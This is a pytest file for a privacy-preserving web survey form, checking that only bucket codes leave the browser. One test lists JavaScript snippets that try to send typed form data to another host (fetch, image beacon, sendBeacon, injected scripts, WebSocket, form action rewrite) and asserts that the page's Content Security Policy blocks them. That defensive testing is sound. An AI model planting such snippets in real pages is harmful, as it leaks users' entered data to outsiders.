"""The form in a browser: nothing finer than a bucket leaves it, and nothing stays."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest

from sparsam.collect import AnswerTable, Form, Target
from sparsam.generalization import Generalization, categorical_partition, numeric_partition

from .people import (
    AGES,
    BY_HAND,
    SCHOOL,
    TIES,
    act,
    act_quickly,
    answer,
    decide,
    everything,
    mark,
    person,
    send,
)

Visit = Callable[..., Any]
TYPED, FOUND = "Or type it here", "Or find it here"
SCHOOLS = [["none"], list(SCHOOL.categories[1:])]
BY_TIE = [["child", "other"], ["grandchild", "housemate"]]
SMALL = Generalization(
    [
        numeric_partition("age", AGES, [20, 66]),
        categorical_partition("school", SCHOOL, SCHOOLS),
        categorical_partition(
            "tie", TIES, [*BY_TIE, ["adopted child", "parent", "sibling", "spouse"]]
        ),
    ]
)
ANSWERED = {"age": 1, "school": 0, "tie": 2}
BOTH = pytest.mark.parametrize("javascript", [True, False], ids=["JavaScript", "no JavaScript"])


def fill(page: Any) -> None:
    for name, bucket in ANSWERED.items():
        mark(page, name, bucket)


@BOTH
def test_every_byte_that_leaves_is_a_bucket(
    visit: Visit, site: Any, n_people: int, javascript: bool
) -> None:
    g, rng = everything(), random.Random(17)
    page = visit(g.form().html, javascript)
    told = set()
    for number in range(n_people):
        quickly = number >= BY_HAND
        record = person(g, rng)
        codes = g.apply_record(record, output="codes")
        steps = [
            (decide(g[name], record[name], rng, assisted=javascript), codes[name])
            for name in rng.sample(g.collected, len(g.collected))
        ]
        if quickly:
            act_quickly(page, steps)
        else:
            for step in steps:
                act(page, *step)
        if javascript:
            assert page.text_content(".sent code") == urlencode(codes)
        request = send(page, site, quickly=quickly)
        assert (request.method, request.path) == ("POST", "/records")
        assert request.body == urlencode(codes).encode()
        told.add(frozenset({**request.headers, "content-length": ""}.items()))
        page.goto(f"{site.address}/")
    [headers] = map(dict, told)  # the same for everybody: nothing but the body tells of answers
    assert not {"cookie", "referer"} & headers.keys()
    assert set(page.asked_for) == {f"{site.address}/", f"{site.address}/records"}
    assert page.complaints == []
    assert page.context.cookies() == []


def test_nothing_is_stored(visit: Visit) -> None:
    page = visit(SMALL.form().html)
    fill(page)
    stored = "[document.cookie, localStorage.length, sessionStorage.length]"
    assert page.evaluate(stored) == ["", 0, 0]
    assert page.evaluate("indexedDB.databases()") == []


@pytest.mark.parametrize("value", ["", "-3", "0", "19.99999999999999999", "1e3", "65.5", "66"])
def test_what_is_typed_marks_its_line_and_stays(visit: Visit, value: str) -> None:
    page = visit(SMALL.form().html)
    page.get_by_label(TYPED).fill(value)
    marked = page.locator("[name=age]:checked")
    if not value:
        assert marked.count() == 0
        return
    assert marked.input_value() == str(SMALL["age"].bucket(float(value)))
    # another line, by hand: what was typed goes
    mark(page, "age", 1)
    mark(page, "age", 0)
    assert page.get_by_label(TYPED).input_value() == ""


def test_a_number_that_no_line_takes_marks_none(visit: Visit) -> None:
    part = numeric_partition("age", AGES, [20], beyond="error")
    page = visit(Generalization([part]).form().html)
    page.get_by_label(TYPED).fill("20")
    assert page.locator("[name=age]:checked").input_value() == "1"
    page.get_by_label(TYPED).fill("120")
    assert page.locator("[name=age]:checked").count() == 0
    assert page.get_by_text("No line fits.").is_visible()
    mark(page, "age", 0)
    assert page.get_by_text("No line fits.").count() == 0


def test_what_is_found_marks_its_line(visit: Visit) -> None:
    page = visit(SMALL.form().html)
    lists = page.get_by_label(FOUND)
    assert lists.nth(0).locator("option").all_inner_texts()[1:] == list(SCHOOL.categories)
    assert lists.nth(1).locator("option").all_inner_texts()[1:] == sorted(TIES.categories)
    for category in TIES.categories:
        lists.nth(1).select_option(label=category)
        marked = page.locator("[name=tie]:checked").input_value()
        assert marked == str(SMALL["tie"].bucket(category))


def test_the_text_that_will_be_sent_is_always_shown(visit: Visit) -> None:
    page = visit(SMALL.form().html)
    sent = page.locator(".sent")
    said = "This, and nothing more, will be sent:"
    assert sent.inner_text().split("\n") == [said, "nothing yet"]
    fill(page)
    assert sent.inner_text().split("\n") == [said, urlencode(ANSWERED)]
    # without JavaScript it stands beside the lines that are marked, and there alone
    plain = visit(SMALL.form().html, javascript=False)
    fill(plain)
    shown = [code for code in plain.locator("fieldset code").all() if code.is_visible()]
    assert [code.inner_text() for code in shown] == urlencode(ANSWERED).split("&")
    assert "What is sent stands beside" in plain.locator("noscript p:visible").inner_text()


@BOTH
def test_half_an_answer_is_not_sent(visit: Visit, site: Any, javascript: bool) -> None:
    page = visit(SMALL.form().html, javascript)
    mark(page, "age", 1)
    site.requests.clear()
    page.get_by_role("button").click()
    page.wait_for_timeout(100)
    assert site.requests == []


def left(page: Any) -> list[str]:
    """What a page still holds: marked lines, and what was typed or found."""
    fields: list[str] = page.evaluate(
        """() => [...document.querySelectorAll("input, select")]
          .filter((field) => field.checked || (field.type != "radio" && field.value))
          .map((field) => `${field.name} ${field.value}`)"""
    )
    return fields


@pytest.mark.parametrize("waiting", [True, False], ids=["in memory", "loaded again"])
@BOTH
def test_nothing_is_left_after_sending_and_going_back(
    chromium: Callable[..., Any], site: Any, javascript: bool, waiting: bool
) -> None:
    site.pages["/"] = SMALL.form().html
    # browsers keep a page in memory for people who come back; Playwright forbids it
    kept = ["--disable-back-forward-cache"] if waiting else []
    browser = chromium(ignore_default_args=kept)
    page = browser.new_context(java_script_enabled=javascript).new_page()
    page.goto(f"{site.address}/")
    fill(page)
    if javascript:
        page.get_by_label(TYPED).fill("47")
        page.get_by_label(FOUND).first.select_option(index=1)
    marked = left(page)
    assert len(marked) == (5 if javascript else 3)
    page.get_by_role("button").click()
    page.get_by_text("Thanks.").wait_for()
    if waiting:  # which Playwright knows nothing of
        page.evaluate("history.back()")
        page.wait_for_timeout(500)
    else:
        page.go_back()
    page.get_by_role("button").wait_for()
    # without JavaScript nobody can empty a page that waits in memory: the marked buckets stay
    assert left(page) == ([] if javascript or not waiting else marked)
    browser.close()


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('TO/?' + typed.value)",
        "new Image().src = 'TO/?' + typed.value",
        "navigator.sendBeacon('TO/', typed.value)",
        """const script = document.createElement('script');
           script.textContent = "window.ran = true; fetch('TO/')";
           document.body.append(script)""",
        """const script = document.createElement('script');
           script.src = 'TO/?' + typed.value;
           document.body.append(script)""",
        "new WebSocket('TO/'.replace('http', 'ws'))",
        """const form = document.querySelector('form');
           form.setAttribute('action', 'TO/?' + typed.value);
           form.submit()""",
    ],
    ids=["fetch", "image", "beacon", "script", "far script", "socket", "form"],
)
def test_nothing_can_be_sent_elsewhere(visit: Visit, site: Any, attempt: str) -> None:
    # even if something of a stranger's ran in the page
    page = visit(SMALL.form().html)
    page.get_by_label(TYPED).fill("47")
    site.requests.clear()
    elsewhere = site.address.replace("127.0.0.1", "localhost")
    for place in {elsewhere, site.address if "submit" not in attempt else elsewhere}:
        steps = attempt.replace("TO", place)
        code = f"const typed = document.querySelector('.aid input'); {steps}"
        page.evaluate(f"() => {{ try {{ {code} }} catch {{}} }}")
        page.wait_for_timeout(150)
    assert site.requests == []
    assert page.evaluate("window.ran") is None
    assert any("Content Security Policy" in text for text in page.complaints)


def test_by_keyboard_alone(visit: Visit, site: Any) -> None:
    page = visit(SMALL.form().html)
    press = page.keyboard.press
    press("Tab")
    press("Space")  # the first line of age
    press("ArrowDown")
    assert page.locator("[name=age]:checked").input_value() == "1"
    press("Tab")  # to the field to type into
    page.keyboard.type("70")
    press("Tab")
    press("Space")  # the first line of school
    press("Tab")  # the categories of its second line
    press("Enter")
    assert page.locator("details[open]").count() == 1
    press("Tab")  # the list to find one in
    press("Tab")
    press("Space")  # the first line of tie
    focused = "document.activeElement.matches('button')"
    for _ in range(5):
        if page.evaluate(focused):
            break
        press("Tab")
    assert page.evaluate(focused)
    site.requests.clear()
    press("Enter")
    page.get_by_text("Thanks.").wait_for()
    assert site.requests[0].body == b"age=2&school=0&tie=0"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1000])
def test_a_screen_reader_stumbles_over_nothing(
    visit: Visit, axe: str, scheme: str, width: int
) -> None:
    labels = {"age": {"question": "How old are you?", "help": "In whole years."}}
    form = Form(everything(), target=Target("employed", ("no", "yes")), labels=labels)
    size = {"width": width, "height": 800}
    page = visit(form.html, color_scheme=scheme, viewport=size, bypass_csp=True)
    page.evaluate(axe)
    for opened in (False, True):
        if opened:
            page.evaluate("document.querySelectorAll('details').forEach(d => (d.open = true))")
            mark(page, "age", 1)
        check(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def check(page: Any) -> None:
    """Let axe look at a page that has it."""
    outcome = page.evaluate(
        """() => axe.run(document, {runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa",
                                              "wcag22aa", "best-practice"]})"""
    )
    assert len(outcome["passes"]) > 15
    assert [found["id"] for found in outcome["violations"]] == []


def test_what_was_typed_goes_when_it_is_sent(visit: Visit) -> None:
    page = visit(SMALL.form().html)
    fill(page)
    page.get_by_label(TYPED).fill("47")
    page.get_by_label(FOUND).first.select_option(index=1)
    page.evaluate("addEventListener('submit', (event) => event.preventDefault())")  # a slow server
    page.get_by_role("button").click()
    assert [field.split()[0] for field in left(page)] == list(ANSWERED)
    assert page.get_by_role("button").is_disabled()  # nothing is sent twice


def test_on_paper(visit: Visit) -> None:
    page = visit(SMALL.form().html)
    page.emulate_media(media="print")
    assert not page.get_by_role("button").is_visible()
    assert not page.locator(".aid").first.is_visible()
    assert page.get_by_text("school=1").is_visible()  # for whoever types it in
    box = page.get_by_role("listitem").filter(has_text="secondary").bounding_box()
    assert box is not None
    assert box["height"] > 5  # categories are listed without opening anything
    many = visit(everything().form().html, javascript=False)
    many.emulate_media(media="print")
    listed = many.get_by_label("Dataset").bounding_box()
    assert listed is not None
    assert listed["height"] > 20 * 10  # a line for each town


def test_the_answer_is_shown_and_nothing_is_sent(visit: Visit, site: Any) -> None:
    def model(people: Any) -> list[str]:
        pairs = zip(people["age"], people["tie"], strict=True)
        return [f"{age} and {tie}" for age, tie in pairs]

    table = AnswerTable.of(model, SMALL, takes="codes")
    page = visit(Form(SMALL, answers=table).html)
    site.requests.clear()
    rng = random.Random(0)
    for _ in range(10):
        record = person(SMALL, rng)
        codes = SMALL.apply_record(record, output="codes")
        for name in SMALL.collected:
            answer(page, SMALL[name], record[name], rng, assisted=True)
        shown = page.locator(".sent").inner_text()
        assert shown == f"The answer: {table.answer(list(codes.values()))}"
    page.keyboard.press("Enter")
    page.wait_for_timeout(100)
    page.reload()
    assert not page.locator(".sent").is_visible()
    assert [(request.method, request.path) for request in site.requests] == [("GET", "/")]
    plain = visit(Form(SMALL, answers=table).html, javascript=False)
    assert "it needs JavaScript" in plain.locator("noscript p:visible").inner_text()
    assert plain.get_by_role("button").count() == 0
